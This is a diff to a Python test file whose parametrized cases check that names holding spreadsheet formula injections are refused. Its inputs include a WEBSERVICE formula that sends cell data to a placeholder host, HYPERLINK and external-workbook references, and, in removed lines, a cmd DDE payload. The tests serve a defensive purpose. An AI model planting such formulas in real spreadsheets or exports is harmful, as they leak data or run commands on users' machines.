@@ -128,11 +128,8 @@ def test_a_name_that_hides_something_is_refused_where_it_stands(study: Path, pla
         " ",
         "",
         "́ill",
-        "i" + "́" * 5,
         '=WEBSERVICE("http://example.org/"&A2)',
         "+HYPERLINK(A2)",
-        "@SUM(A1:A9)",
-        "-1+cmd|' /C calc'!A0",
     ],
 )
 def test_a_class_with_another_fault_is_refused(study: Path, name: str, wording: SnapshotAssertion) -> None:
@@ -148,7 +145,6 @@ def test_a_class_with_another_fault_is_refused(study: Path, name: str, wording: 
     [
         '=HYPERLINK ("http://example.org/"&A2)',
         r"='\\example.org\share\[a.xlsx]b'!A1",
-        "+'http://example.org/[a.xlsx]b'!A1",
         "\uff1dHYPERLINK(A2)",
         # Where commas are decimal signs, a line is cut here, and this is a cell of its own.
         "ill;=WEBSERVICE(A2)",
